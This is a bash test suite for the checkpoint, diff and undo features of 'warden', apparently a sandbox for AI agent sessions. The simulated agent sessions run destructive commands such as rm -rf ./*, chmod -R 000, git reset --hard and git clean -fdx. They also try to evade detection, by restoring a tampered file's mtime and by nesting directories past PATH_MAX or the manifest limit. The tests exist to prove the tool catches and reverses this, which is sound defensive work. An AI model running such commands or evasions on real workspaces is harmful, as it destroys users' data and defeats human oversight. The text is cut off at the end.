# t_checkpoint.sh - workspace checkpoints (src/checkpoint/): taken before
# every session and at its end, `warden diff` and `warden undo` (the tree
# back byte for byte, modes, symlinks and mtimes included, an mtime alone
# shown and undone, after rm -rf, git reset --hard, git clean -fdx, chmod
# -R 000, rewrites), the undo refusing to
# overwrite later changes and itself undoable, `checkpoint exclude` and
# `checkpoint off`, and a store that is a symlink, unwritable, full, or a
# workspace that changes while it is recorded: no session then (exit 125).
# shellcheck shell=bash

# tree_hash DIR: one hash of the whole tree: every path with its type and
# mode, each symlink's target, each file's content (the workspace's own
# wprobe included).
tree_hash() {
	(
		cd "$1" || exit 1
		find . -printf '%y %m %p -> %l\n' | LC_ALL=C sort
		find . -type f -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum
	) | sha256sum | cut -d' ' -f1
}

# A repository of five commits with a symlink, an executable, a private
# file, a directory of mode 0750, an untracked and an ignored file.
make_repo() {
	have git || skip 'git not installed'
	git init -q . || fatal 'git init'
	local i
	for i in 1 2 3 4 5; do
		mkdir -p "src/d$i"
		printf 'line %s\nsecond\n' "$i" >"src/d$i/f.txt"
		printf 'v%s\n' "$i" >VERSION
		git add -A src VERSION &&
			git -c user.name=host -c user.email=host@example.invalid commit -qm "c$i" ||
			fatal 'git commit'
	done
	ln -s src/d1/f.txt link
	printf '#!/bin/sh\necho run\n' >run.sh
	chmod 0755 run.sh
	printf 'secret\n' >private
	chmod 0600 private
	mkdir -p closed
	printf 'in closed\n' >closed/x
	chmod 0750 closed
	printf 'build/\n' >.gitignore
	mkdir -p build
	printf 'object\n' >build/out.o
	printf 'untracked\n' >notes.txt
}

ckpt_field() { # EVENT: the latest session's EVENT line
	wardenc log show --event "$1" --json
}

test_checkpoint_undo_git_damage() {
	make_repo
	local h0 h1
	h0=$(tree_hash "$WS")
	wsh 'printf "rewritten\n" > VERSION; for f in src/*/f.txt; do echo bad > "$f"; done;
	     git reset -q --hard HEAD~3 && { git clean -qfdx 2>/dev/null; echo done; }'
	assert_rc 0 'the damaging session'
	assert_out_has done
	h1=$(tree_hash "$WS")
	[[ $h1 != "$h0" ]] || fatal 'the session changed nothing'
	ckpt_field session.start
	assert_out_match '"checkpoint":\{"manifest":"[0-9a-f]{64}"' 'session.start names the manifest'
	ckpt_field session.end
	assert_out_match '"checkpoint":\{"manifest":"[0-9a-f]{64}"' 'session.end names the manifest'
	wardenc undo --yes
	assert_rc 0 'warden undo'
	assert_out_has 'undoes this undo'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'the tree after undo differs from before the session'
	OUT=$(git -c safe.directory='*' log --format=%s | tr '\n' ' ')
	[[ $OUT == 'c5 c4 c3 c2 c1 ' ]] || fail "history after undo: $(excerpt "$OUT")"
	OUT=$(git -c safe.directory='*' status --porcelain | tr '\n' ' ')
	[[ $OUT == '?? link ?? notes.txt ?? private ?? run.sh ?? wprobe ' || $OUT == *notes.txt* ]] ||
		fail "git status after undo: $(excerpt "$OUT")"
}

test_checkpoint_undo_rm_chmod() {
	make_repo
	local h0
	h0=$(tree_hash "$WS")
	wsh 'rm -rf ./* ; chmod -R 000 . 2>/dev/null; echo gone'
	assert_out_has gone
	[[ ! -e $WS/src ]] || fail 'rm -rf ./* left src'
	wardenc undo --yes
	assert_rc 0 'warden undo after rm -rf and chmod -R 000'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'the tree after undo differs from before the session'
	[[ $(stat -c %a "$WS/closed") == 750 && $(stat -c %a "$WS/private") == 600 &&
		$(stat -c %a "$WS/run.sh") == 755 && $(readlink "$WS/link") == src/d1/f.txt ]] ||
		fail 'modes or the symlink not restored'
}

# As root, in a workspace owned by a user: what undo brings back is the
# user's, as the agent's files are (t_hostid.sh), never root's.
test_checkpoint_undo_owner_root() {
	is_root || skip 'root restores files of another owner'
	mkdir -p sub
	echo a >f.txt
	echo b >sub/g.txt
	ln -s f.txt l
	chown -Rh 4321:4321 "$WS"
	wsh 'rm -rf f.txt sub l; echo gone'
	assert_out_has gone
	wardenc undo --yes
	assert_rc 0 'warden undo as root'
	local p
	for p in f.txt sub sub/g.txt l; do
		[[ $(stat -c %u:%g "$WS/$p" 2>/dev/null) == 4321:4321 ]] ||
			fail "$p came back owned by $(stat -c %u:%g "$WS/$p" 2>/dev/null), not the workspace's owner 4321:4321"
	done
}

test_checkpoint_diff() {
	printf 'one\ntwo\nthree\n' >a.txt
	printf 'keep\n' >b.txt
	ln -s a.txt l
	wsh 'printf "one\nTWO\nthree\n" > a.txt; rm b.txt; echo new > c.txt; chmod 700 wprobe; ln -sfn b.txt l'
	assert_rc 0
	wardenc diff
	assert_rc 1 'warden diff with changes'
	assert_out_line '  modified  a.txt'
	assert_out_line '  removed   b.txt'
	assert_out_line '  added     c.txt'
	assert_out_line '  mode      wprobe (0755 -> 0700)'
	assert_out_line '  modified  l -> b.txt'
	assert_out_line '-two'
	assert_out_line '+TWO'
	assert_out_line '+++ b/c.txt'
	wardenc diff --list
	assert_out_lacks '+TWO' '--list'
	wardenc log list --json
	local first
	first=$(head -n 1 <<<"$OUT" | grep -oE '"session":"[^"]+"' | cut -d'"' -f4)
	wardenc undo --yes
	assert_rc 0
	wardenc diff "$first"
	assert_rc 0 'diff against the first session after its undo'
	assert_out_has 'nothing changed'
}

test_checkpoint_undo_refuses_later_changes() {
	printf 'before\n' >a.txt
	wsh 'echo agent > a.txt; echo agent > b.txt'
	assert_rc 0
	printf 'user edit\n' >a.txt
	wardenc undo --yes
	assert_rc 125 'undo over a later change'
	assert_err_match 'changed after session'
	assert_err_match 'a\.txt'
	assert_host_file "$WS/a.txt" 'user edit' 'the refused undo left the file'
	wardenc undo --yes --force
	assert_rc 0 'undo --force'
	assert_host_file "$WS/a.txt" before
	assert_host_absent "$WS/b.txt"
	# the undo is a checkpointed session of its own: undone in turn
	wardenc undo --yes
	assert_rc 0 'undo of the undo'
	assert_host_file "$WS/a.txt" 'user edit'
	assert_host_file "$WS/b.txt" agent
}

test_checkpoint_undo_without_terminal() {
	printf 'x\n' >a.txt
	wsh 'echo y > a.txt'
	wardenc undo
	assert_rc 125 'undo unconfirmed'
	assert_err_match 'not confirmed'
	assert_host_file "$WS/a.txt" y
}

# A session that only backdates or forward-dates files (so that make skips
# or redoes them after the undo): diff shows each mtime, undo sets each back
# and says so. A directory's mtime is no line of the diff (every entry made
# or removed in it moves it, so `.git` would be one after each git command):
# an undo sets it back with the rest, and a session that touched nothing but
# a directory's mtime has nothing to undo.
test_checkpoint_undo_mtime_only() {
	printf 'a\n' >a.txt && printf 'b\n' >b.txt && ln -s a.txt l && mkdir sub &&
		printf 'c\n' >sub/c.txt || fatal 'could not make the tree'
	touch -d @1580608922 a.txt b.txt sub/c.txt sub && touch -h -d @1580608922 l ||
		fatal 'could not set the mtimes'
	wsh 'touch -d @936835200 a.txt && touch -d @1893456000 b.txt &&
		touch -h -d @936835200 l && touch -d @936835200 sub && echo touched'
	assert_out_has touched
	[[ $(stat -c %Y a.txt) == 936835200 ]] || fatal 'the session did not backdate a.txt'
	wardenc diff
	assert_rc 1 'diff of mtimes alone'
	assert_out_has ': 3 changes in' 'the three mtimes counted, not the directory'
	assert_out_line '  mtime     a.txt (2020-02-02 02:02:02 -> 1999-09-09 00:00:00 UTC)'
	assert_out_line '  mtime     b.txt (2020-02-02 02:02:02 -> 2030-01-01 00:00:00 UTC)'
	assert_out_line '  mtime     l (2020-02-02 02:02:02 -> 1999-09-09 00:00:00 UTC) -> a.txt'
	assert_out_lacks 'sub' "a directory's mtime is not shown"
	assert_out_lacks '+++' 'no text diff for an mtime'
	local sid
	sid=$(sed -n 's/^session \([^ :]*\): .*/\1/p' <<<"$OUT")
	wardenc undo --yes
	assert_rc 0 'undo of mtimes alone'
	assert_out_lacks 'nothing to undo'
	assert_out_line '  mtime     a.txt (1999-09-09 00:00:00 -> 2020-02-02 02:02:02 UTC)' 'undo says it'
	assert_out_has 'undoes this undo'
	local p
	for p in a.txt b.txt l sub sub/c.txt; do
		[[ $(stat -c %Y "$p") == 1580608922 ]] ||
			fail "$p has the mtime $(stat -c %y "$p") after the undo, not 2020-02-02 02:02:02"
	done
	wardenc diff "$sid"
	assert_rc 0 'diff against the session after its undo'
	assert_out_has 'nothing changed'
	# a directory's mtime alone: not a change
	wsh 'touch -d @936835200 sub && echo touched'
	assert_out_has touched
	wardenc diff
	assert_rc 0 "diff of a directory's mtime alone"
	assert_out_has 'nothing changed'
}

# A file whose content the session changed, then put its size and mtime
# back (`touch -r` of a copy), is read again all the same: the metadata
# cache (which spares reading a file whose inode, size, mtime and ctime it
# knows) keys on the ctime too, which no process can set back. So diff
# shows the change and undo brings the content back, with its mtime; a
# touch on the host after the session does not stop the undo.
test_checkpoint_content_with_mtime_put_back() {
	printf 'good content\n' >a.txt && touch -d @1580608922 a.txt || fatal 'could not make a.txt'
	sleep 1.1 # older than a second: the start's checkpoint puts it in the cache
	# and the agent waits a second more, so that what the end's checkpoint
	# records of a.txt is cached in turn, for the diff
	wsh 'cp -p a.txt .keep && printf "EVIL content\n" > a.txt && touch -r .keep a.txt &&
		rm .keep && sleep 1.1 && echo swapped'
	assert_out_has swapped
	[[ $(stat -c %s:%Y a.txt) == 13:1580608922 && $(<a.txt) == 'EVIL content' ]] ||
		fatal "the session did not put back the size and mtime: $(stat -c %s:%Y a.txt)"
	wardenc diff
	assert_rc 1 'diff of a content change behind the same size and mtime'
	assert_out_line '  modified  a.txt'
	assert_out_line '-good content'
	assert_out_line '+EVIL content'
	# a later touch on the host (its mtime alone) does not stop the undo:
	# the content it overwrites is the session's
	touch -d @1600000000 a.txt
	wardenc undo --yes
	assert_rc 0 'undo'
	assert_out_line '  modified  a.txt' 'undo says it'
	assert_host_file "$WS/a.txt" 'good content'
	[[ $(stat -c %Y a.txt) == 1580608922 ]] || fail "a.txt's mtime after the undo: $(stat -c %y a.txt)"
}

# ---- a damaged store, options after the id, an undo that fails or is killed -

store_dir() { printf '%s/.local/share/warden/store' "$HOME"; }

# big_text FILE TAG: a text file larger than what the store packs (16 KiB),
# so that its content is a loose blob of its own
big_text() {
	local i
	for i in $(seq 1 2000); do printf '%s line %s\n' "$2" "$i"; done >"$1"
}

# loose_blob FILE: the path of FILE's content as a loose blob in the store
loose_blob() {
	local h
	h=$(sha256sum "$1" | cut -c1-64)
	printf '%s/blobs/%s/%s' "$(store_dir)" "${h:0:2}" "${h:2}"
}

# newest_session: the id of the newest session in the log
newest_session() {
	wardenc log list --json >/dev/null
	tail -n 1 <<<"$OUT" | grep -oE '"session":"[^"]+"' | cut -d'"' -f4
}

# A blob replaced by a FIFO: diff and undo say so at once (no open of it
# that waits for a writer), the list of changes still shown; the undo
# changes nothing.
test_checkpoint_fifo_blob() {
	big_text big.txt before
	printf 'small\n' >small.txt
	local blob h0
	blob=$(loose_blob big.txt)
	wsh 'echo agent >> big.txt; echo agent > small.txt; echo new > new.txt'
	assert_rc 0
	[[ -f $blob ]] || fatal "no loose blob of big.txt at $blob"
	rm -f "$blob" && mkfifo "$blob" || fatal 'mkfifo in the store'
	h0=$(tree_hash "$WS")
	WARDEN_TIMEOUT=20 wardenc diff
	[[ $RC != 124 ]] || fail 'warden diff hung on a FIFO in the store'
	assert_rc 125 'diff with a FIFO for a blob'
	assert_out_line '  modified  big.txt'
	assert_err_match 'big\.txt: its stored content \([0-9a-f]{16}\) is not a regular file'
	WARDEN_TIMEOUT=20 wardenc undo --yes
	[[ $RC != 124 ]] || fail 'warden undo hung on a FIFO in the store'
	assert_rc 125 'undo with a FIFO for a blob'
	assert_err_match 'undo refused, nothing was changed: big\.txt: .*not a regular file'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'the refused undo changed the workspace'
}

# A damaged blob (a loose one, then a byte of a pack) stops the undo before
# anything is written: the files it would have restored first, the file it
# would have removed, all as they were; with the store mended it runs.
test_checkpoint_corrupt_blob() {
	big_text big.txt before
	printf 'alpha-small-content\n' >a.txt
	printf 'zeta-small-content\n' >z.txt
	local blob h_pre h0 pack
	h_pre=$(tree_hash "$WS")
	blob=$(loose_blob big.txt)
	wsh 'echo agent > a.txt; echo agent >> big.txt; rm z.txt; echo new > new.txt'
	assert_rc 0
	[[ -f $blob ]] || fatal "no loose blob of big.txt at $blob"
	h0=$(tree_hash "$WS")
	chmod u+w "$blob" && printf 'X' | dd of="$blob" bs=1 seek=5 conv=notrunc 2>/dev/null ||
		fatal 'damaging the blob'
	wardenc undo --yes
	assert_rc 125 'undo with a damaged blob'
	assert_err_match 'nothing was changed: big\.txt: its stored content .* does not match its hash'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'the refused undo changed the workspace'
	assert_host_file "$WS/a.txt" agent 'a.txt (restored before big.txt before the fix)'
	assert_host_file "$WS/new.txt" new
	printf 'e' | dd of="$blob" bs=1 seek=5 conv=notrunc 2>/dev/null
	big_text "$T_TMP/orig" before
	cmp -s "$T_TMP/orig" "$blob" || fatal 'the blob was not mended'
	# a byte of the pack that holds z.txt's content
	pack=$(grep -l zeta-small-content "$(store_dir)"/packs/*.pack 2>/dev/null | head -n 1)
	[[ -n $pack ]] || fatal 'z.txt is in no pack of the store'
	chmod u+w "$pack" && perl -0777 -pi -e 's/zeta-small-content/ZETA-small-content/' "$pack" ||
		fatal 'damaging the pack'
	wardenc undo --yes
	assert_rc 125 'undo with a damaged pack'
	assert_err_match 'nothing was changed: z\.txt: its stored content .* does not match its hash'
	[[ $(tree_hash "$WS") == "$h0" ]] || fail 'the refused undo changed the workspace'
	perl -0777 -pi -e 's/ZETA-small-content/zeta-small-content/' "$pack"
	wardenc undo --yes
	assert_rc 0 'undo with the store mended'
	[[ $(tree_hash "$WS") == "$h_pre" ]] || fail 'the tree after undo differs from before the session'
}

# Options after the session id: `warden undo ID --force` (what warden
# advises) and `warden diff ID --list` parse.
test_checkpoint_options_after_id() {
	printf 'before\n' >a.txt
	wsh 'echo agent > a.txt'
	assert_rc 0
	local id
	id=$(newest_session)
	[[ -n $id ]] || fatal 'no session id in warden log list'
	printf 'user edit\n' >a.txt
	wardenc diff "$id" --list
	assert_rc 1 'warden diff ID --list'
	assert_out_line '  modified  a.txt'
	wardenc undo "$id" --force --yes
	assert_rc 0 'warden undo ID --force --yes'
	assert_host_file "$WS/a.txt" before
}

# A store as warden wrote it before packs (every blob a loose file): the
# session's pack turned into loose blobs and removed; diff and undo read it.
test_checkpoint_old_store() {
	have python3 || skip 'python3 turns the pack into loose blobs'
	printf 'one\ntwo\n' >a.txt
	printf 'keep\n' >b.txt
	local h_pre
	h_pre=$(tree_hash "$WS")
	wsh 'printf "one\nTWO\n" > a.txt; rm b.txt'
	assert_rc 0
	python3 - "$(store_dir)" <<'PY' || fatal 'unpacking the store'
import os, sys
st = sys.argv[1]
for name in os.listdir(os.path.join(st, "packs")):
    p = os.path.join(st, "packs", name)
    data = open(p, "rb").read()
    off = int(data[-38:].split()[1])
    for line in data[off:-38].decode().splitlines():
        h, o, n = line.split()
        d = os.path.join(st, "blobs", h[:2])
        os.makedirs(d, exist_ok=True)
        b = os.path.join(d, h[2:])
        if not os.path.exists(b):
            with open(b, "wb") as f:
                f.write(data[int(o):int(o) + int(n)])
            os.chmod(b, 0o444)
    os.unlink(p)
PY
	[[ -z $(ls "$(store_dir)/packs") ]] || fatal 'packs left'
	wardenc diff
	assert_rc 1 'diff over an old store'
	assert_out_line '-two'
	assert_out_line '+TWO'
	wardenc undo --yes
	assert_rc 0 'undo over an old store'
	[[ $(tree_hash "$WS") == "$h_pre" ]] || fail 'the tree after undo differs from before the session'
}

# strace_undo INJECT: `warden undo --yes` with a fault injected into its
# second symlinkat (the second symlink it restores); sets RC, ERR
strace_undo() {
	have strace || skip 'strace not installed'
	strace -qq -o /dev/null true 2>/dev/null || skip 'strace cannot trace here'
	timeout -k 5 60 strace -qq -f -o /dev/null -e trace=symlinkat \
		-e inject=symlinkat:"$1":when=2 "$WARDEN" undo --yes </dev/null >"$T_TMP/.out" 2>"$T_TMP/.err"
	RC=$?
	ERR=$(<"$T_TMP/.err")
	printf '$ strace (%s) warden undo --yes\n-> rc=%s\n--- stderr\n%s\n' "$1" "$RC" "$ERR"
}

# advised: the first command between backquotes in ERR that starts with
# the words given
advised() {
	grep -oE "\`$1[^\`]*\`" <<<"$ERR" | head -n 1 | tr -d '`'
}

# A session that changed a file and two symlinks and added one.
undo_setup() {
	printf 'a\n' >a.txt
	ln -s a.txt l1
	ln -s a.txt l2
	H_PRE=$(tree_hash "$WS")
	wsh 'echo agent > a.txt; ln -sfn x l1; ln -sfn y l2; echo new > new.txt'
	assert_rc 0
	H_AGENT=$(tree_hash "$WS")
	SESSION=$(newest_session)
}

# An undo that fails halfway (an error on its second symlink) puts back
# what it had done, says so, and names a command that works.
test_checkpoint_undo_fails_rolled_back() {
	undo_setup
	strace_undo error=EIO
	[[ $RC == 125 ]] || fail "undo with an injected error: rc $RC, not 125"
	assert_err_match 'undo failed \(.*\); nothing was changed: the workspace was put back'
	[[ $(tree_hash "$WS") == "$H_AGENT" ]] || fail 'the failed undo left the workspace changed'
	local cmd
	cmd=$(advised 'warden undo')
	[[ $cmd == "warden undo $SESSION" ]] || fail "advice: '$cmd', not 'warden undo $SESSION'"
	wardenc ${cmd#warden } --yes
	assert_rc 0 'the advised command'
	[[ $(tree_hash "$WS") == "$H_PRE" ]] || fail 'the advised undo did not restore the tree'
}

# An undo killed halfway: `warden undo` (what the newest session then
# is) does not go back to its start (the agent's changes) even with
# --force, and names the command that finishes it.
test_checkpoint_undo_killed() {
	undo_setup
	strace_undo signal=KILL
	[[ $(tree_hash "$WS") != "$H_AGENT" && $(tree_hash "$WS") != "$H_PRE" ]] ||
		skip 'the undo was not stopped halfway'
	local h_mid cmd
	h_mid=$(tree_hash "$WS")
	wardenc undo --yes --force
	assert_rc 125 'warden undo after a killed undo'
	assert_err_match 'did not finish'
	[[ $(tree_hash "$WS") == "$h_mid" ]] || fail 'warden undo after a killed one changed the tree'
	[[ $(cat "$WS/a.txt") != agent ]] || fail "the agent's change came back"
	cmd=$(advised "warden undo $SESSION")
	[[ $cmd == "warden undo $SESSION" ]] || fail "advice: '$cmd', not 'warden undo $SESSION'"
	wardenc ${cmd#warden } --yes
	assert_rc 0 'the advised command finishes the undo'
	[[ $(tree_hash "$WS") == "$H_PRE" ]] || fail 'the finished undo did not restore the tree'
}

# An agent that nests a tree deeper than the kernel takes a path in one
# call (PATH_MAX, 4,096 characters) and removes a file of the user's:
# `warden diff` shows the deep file's content, `warden undo` removes the
# whole tree and brings the file back (before, the undo failed on the
# first deep path, its message cut before the reason).
test_checkpoint_undo_deeper_than_path_max() {
	have python3 || skip 'python3 not installed'
	printf 'keep\n' >keep.txt
	wsh 'python3 -c "
import os
os.remove(\"keep.txt\")
for i in range(1500):
    os.mkdir(\"dd\"); os.chdir(\"dd\")
open(\"f\", \"w\").write(\"deep in the tree\\n\")
" && echo nested'
	assert_rc 0 'the nesting session'
	assert_out_has nested
	[[ -d $WS/dd && ! -e $WS/keep.txt ]] || fatal 'the agent did not nest its tree'
	wardenc diff
	assert_rc 1 'warden diff (differences found)'
	assert_out_has '+deep in the tree'
	assert_out_has '-keep'
	wardenc undo --yes
	assert_rc 0 'warden undo of a tree deeper than PATH_MAX'
	[[ ! -e $WS/dd ]] || fail 'the deep tree is still there after undo'
	assert_host_file "$WS/keep.txt" keep
}

# Deeper still: a tree whose paths pass what a manifest holds (16,384
# characters). Recorded, they made the manifest unreadable, and `warden
# undo` of that session (and of every later one) failed: the agent could
# remove a file and keep it from coming back. They are left out of the
# checkpoint, said on the terminal and counted in session.end; the undo
# brings the file back and removes the whole tree.
test_checkpoint_undo_deeper_than_a_manifest() {
	have python3 || skip 'python3 not installed'
	# shellcheck disable=SC2034 # read by wrun (lib.sh)
	local WARDEN_TIMEOUT=300
	printf 'keep\n' >keep.txt
	wsh 'python3 -c "
import os
os.remove(\"keep.txt\")
for i in range(9000):
    os.mkdir(\"d\"); os.chdir(\"d\")
open(\"f\", \"w\").write(\"deep\")
" && echo nested'
	assert_rc 0 'the nesting session'
	assert_out_has nested
	assert_err_match 'checkpoint at the end of the session: 1 path nested deeper than 16384 characters not recorded'
	ckpt_field session.end
	assert_out_match '"checkpoint":\{"manifest":"[0-9a-f]{64}","entries":[0-9]+,"too_deep":1\}' \
		'session.end counts what it left out'
	wardenc undo --yes
	assert_rc 0 'warden undo of a session that nested past a manifest'
	[[ ! -e $WS/d ]] || fail 'the deep tree is still there after undo'
	assert_host_file "$WS/keep.txt" keep
}

test_checkpoint_exclude() {
	mkdir -p node_modules/pkg
	printf 'dep\n' >node_modules/pkg/index.js
	printf 'src\n' >main.js
	printf 'checkpoint exclude node_modules\n' >"$T_TMP/p"
	wsh 'echo changed > main.js; echo agent > node_modules/pkg/index.js' --profile "$T_TMP/p"
	assert_rc 0
	assert_err_match 'checkpoint: not recorded \(checkpoint exclude\): node_modules'
	ckpt_field session.start
	assert_out_has '"excluded":["node_modules"]'
	wardenc undo --yes
	assert_rc 0
	assert_host_file "$WS/main.js" src
	assert_host_file "$WS/node_modules/pkg/index.js" agent 'excluded paths are left alone'
}

test_checkpoint_store_symlink() {
	mkdir -p "$HOME/.local/share/warden" "$T_TMP/elsewhere"
	ln -s "$T_TMP/elsewhere" "$HOME/.local/share/warden/store"
	wsh 'touch ran'
	assert_rc 125 'a store that is a symlink'
	assert_err_match 'checkpoint store .* is a symbolic link'
	assert_host_absent "$WS/ran" 'the command did not run'
	# `checkpoint off`: no checkpoint, and the session runs
	printf 'checkpoint off\n' >"$T_TMP/p"
	wsh 'touch ran' --profile "$T_TMP/p"
	assert_rc 0 'checkpoint off'
	[[ -e $WS/ran ]] || fail 'the command did not run with checkpoint off'
	ckpt_field session.start
	assert_out_has '"checkpoint":{"off":true}'
}

# `checkpoint off` with no store yet (a fresh HOME): warden used the store's
# path after freeing it and freed it again at the end (an abort, "double
# free", that glibc's allocator shows only now and then; its checking
# allocator, where the system has it, every time).
test_checkpoint_off_without_store() {
	local dbg
	dbg=$(ls /lib/*/libc_malloc_debug.so.0 /usr/lib/*/libc_malloc_debug.so.0 2>/dev/null | head -n 1)
	[[ -n $dbg ]] || note 'no libc_malloc_debug.so.0 here: the double free may go unseen'
	[[ ! -e $HOME/.local/share/warden/store ]] || fatal 'the fresh HOME has a store'
	printf 'checkpoint off\n' >"$T_TMP/p"
	LD_PRELOAD=$dbg MALLOC_CHECK_=3 wsh 'touch ran' --profile "$T_TMP/p"
	assert_rc 0 'checkpoint off without a store'
	[[ $ERR != *free* ]] || fail "warden's allocator complained: $(excerpt "$ERR")"
	[[ -e $WS/ran ]] || fail 'the command did not run with checkpoint off'
	[[ ! -e $HOME/.local/share/warden/store ]] || fail '`checkpoint off` made a store'
	ckpt_field session.start
	assert_out_has '"checkpoint":{"off":true}'
}

test_checkpoint_store_unwritable() {
	is_root && skip 'root writes whatever the mode'
	mkdir -p "$HOME/.local/share/warden/store"
	chmod 0500 "$HOME/.local/share/warden/store"
	wsh 'touch ran'
	chmod 0700 "$HOME/.local/share/warden/store"
	assert_rc 125 'an unwritable store'
	assert_err_match 'checkpoint store'
	assert_err_match 'Permission denied; give warden.s store a place you can write \(XDG_DATA_HOME\)'
	assert_host_absent "$WS/ran" 'the command did not run'
}

test_checkpoint_store_full() {
	is_root || skip 'mounting a small file system needs root'
	mkdir -p "$HOME/.local/share/warden/store"
	mount -t tmpfs -o size=256k,mode=0700 tmpfs "$HOME/.local/share/warden/store" 2>/dev/null ||
		skip 'cannot mount a tmpfs here'
	head -c 2000000 /dev/urandom >big
	wsh 'touch ran'
	umount "$HOME/.local/share/warden/store"
	assert_rc 125 'a full store'
	assert_err_match 'No space left on device; free space there'
	assert_err_match 'XDG_DATA_HOME.*checkpoint exclude GLOB.*checkpoint off'
	assert_host_absent "$WS/ran" 'the command did not run'
}

# A session that fills the store's disk: its end says the checkpoint failed,
# the undo says how to make room (and that the session's additions go
# anyway), and once there is room it brings the workspace back.
test_checkpoint_undo_store_filled_by_session() {
	is_root || skip 'mounting a small file system needs root'
	mkdir -p "$HOME/.local/share/warden/store"
	mount -t tmpfs -o size=256k,mode=0700 tmpfs "$HOME/.local/share/warden/store" 2>/dev/null ||
		skip 'cannot mount a tmpfs here'
	echo keep >keep.txt
	wsh 'head -c 600000 /dev/urandom >big; echo changed >keep.txt'
	assert_rc 0 'the session itself'
	assert_err_match 'checkpoint at the end of the session failed.*No space left on device'
	wardenc undo --yes
	assert_rc 125 'an undo with no room for its own checkpoint'
	assert_err_match 'No space left on device; free space on that file system and run it again'
	assert_err_match 'warden diff --list [0-9T]+Z-[0-9a-f]+'
	assert_host_file "$WS/keep.txt" changed 'nothing restored by the failed undo'
	rm big
	wardenc undo --yes --force
	umount "$HOME/.local/share/warden/store"
	assert_rc 0 'the undo once there is room'
	assert_host_file "$WS/keep.txt" keep
	assert_host_absent "$WS/big"
}

# Two sessions in one workspace share its placeholders: the first makes
# them, the second adopts them, the last to end removes them. They are
# warden's, never the workspace's: no checkpoint records them. Once the
# second session's start recorded the first's (so that undoing it made 16
# empty directories), and the first's end recorded those left for the
# second (so that its undo took them for changes made after it).
test_checkpoint_shared_placeholders_unrecorded() {
	# shellcheck disable=SC2034 # read by warden_bg (lib.sh)
	local WARDEN_TIMEOUT=60 ta tb ida idb f
	warden_bg "$T_TMP/a.out" -- sh -c 'echo started; while [ ! -e go-a ]; do sleep 0.05; done; echo a >one'
	ta=$TPID
	wait_for "$T_TMP/a.out" '^started' 30 || fatal "session a did not start: $(<"$T_TMP/a.out.err")"
	[[ -d .vscode ]] || fatal 'no placeholder .vscode while session a runs'
	warden_bg "$T_TMP/b.out" -- sh -c 'echo started; while [ ! -e go-b ]; do sleep 0.05; done; echo b >two'
	tb=$TPID
	wait_for "$T_TMP/b.out" '^started' 30 || fatal "session b did not start: $(<"$T_TMP/b.out.err")"
	: >go-a
	wait "$ta" || fail "session a: exit $?"
	[[ -d .vscode ]] || fail 'the placeholder went with session a while b runs'
	: >go-b
	wait "$tb" || fail "session b: exit $?"
	[[ ! -e .vscode ]] || fail 'the placeholder is left after both sessions'
	rm go-a go-b
	for f in "$HOME"/.local/state/warden/*.jsonl; do
		case $(head -n 1 "$f") in
		*go-a*) ida=$(sed -n '1s/^{[^}]*"session":"\([^"]*\)".*/\1/p' "$f") ;;
		*go-b*) idb=$(sed -n '1s/^{[^}]*"session":"\([^"]*\)".*/\1/p' "$f") ;;
		esac
	done
	[[ -n $ida && -n $idb && $ida != "$idb" ]] || fatal "the two sessions' ids: '$ida' '$idb'"
	# what each undo would change (asked on no terminal: not confirmed)
	wardenc undo "$ida"
	[[ "$OUT$ERR" != *.vscode* ]] || fail "the first session's undo names the placeholder: $(excerpt "$OUT$ERR")"
	assert_out_has 'removed   one' 'the first session'"'"'s undo'
	wardenc undo "$idb" --yes
	assert_rc 0 'undo of the second session'
	[[ "$OUT$ERR" != *.vscode* ]] || fail "the second session's undo names the placeholder: $(excerpt "$OUT$ERR")"
	assert_host_absent "$WS/.vscode" 'the undo made the placeholder'
	assert_host_absent "$WS/two"
}

# `warden diff` while the session runs (another terminal, watching the
# agent's work): its placeholders are not changes of the workspace.
test_checkpoint_diff_while_running() {
	# shellcheck disable=SC2034 # read by warden_bg (lib.sh)
	local WARDEN_TIMEOUT=60
	warden_bg "$T_TMP/a.out" -- sh -c 'echo x >new.txt; echo started; while [ ! -e go ]; do sleep 0.05; done'
	wait_for "$T_TMP/a.out" '^started' 30 || fatal "the session did not start: $(<"$T_TMP/a.out.err")"
	[[ -d .vscode ]] || fatal 'no placeholder .vscode while the session runs'
	wardenc diff --list
	: >go
	wait "$TPID" || fail "the session: exit $?"
	assert_rc 1 'changes'
	assert_out_match '^  added +new.txt$'
	assert_out_lacks '.vscode' 'the diff of a running session'
	assert_out_match '^session .*: 1 change in '
}

# A sparse file (a disk image, a database's preallocated file) is stored
# and brought back with its holes: it once took its full size in the store
# (a 1 GiB image with nothing in it, 1.1 GB and 6.6 s at each session's
# start), and an undo wrote it back dense.
test_checkpoint_sparse_file() {
	local sum used
	truncate -s 256M img
	printf 'middle' | dd of=img bs=1 seek=100000000 conv=notrunc status=none
	(($(stat -c %b img) * 512 < 1048576)) || skip "this file system keeps no holes (img takes $(stat -c %b img) blocks)"
	sum=$(md5sum <img)
	wsh 'rm img'
	assert_rc 0
	used=$(du -s --block-size=1M "$HOME/.local/share/warden/store" | cut -f1)
	((used < 32)) || fail "the store takes ${used} MB for a 256 MB file of 6 bytes"
	wardenc undo --yes
	assert_rc 0 'the undo'
	[[ $(md5sum <img) == "$sum" ]] || fail 'the file came back different'
	(($(stat -c %b img) * 512 < 1048576)) || fail "the file came back dense ($(stat -c %b img) blocks)"
}

test_checkpoint_max_size() {
	head -c 2000000 /dev/zero >big
	printf 'checkpoint max-size 1M\n' >"$T_TMP/p"
	wsh 'touch ran' --profile "$T_TMP/p"
	assert_rc 125 'a workspace larger than max-size'
	assert_err_match 'checkpoint max-size. allows \(1048576 bytes\), passed at big \(2000000 bytes\); raise it'
	[[ $ERR != *'File too large'* ]] || fail "a policy's limit said as an errno: $(excerpt "$ERR")"
	assert_host_absent "$WS/ran"
}

test_checkpoint_workspace_changing() {
	# a file appended to all the time while warden records it
	head -c 64000000 /dev/zero >grow
	(while :; do printf x >>grow; done) &
	bg_track $!
	sleep 0.2
	wsh 'touch ran'
	kill $! 2>/dev/null
	assert_rc 125 'a workspace changing during the checkpoint'
	assert_err_match 'changed while it was being recorded'
	assert_host_absent "$WS/ran"
}

test_checkpoint_unchanged_tree_is_cheap() {
	mkdir -p d
	head -c 3000000 /dev/urandom >d/blob
	sleep 1.5 # older than the metadata cache's one-second margin
	wsh 'true'
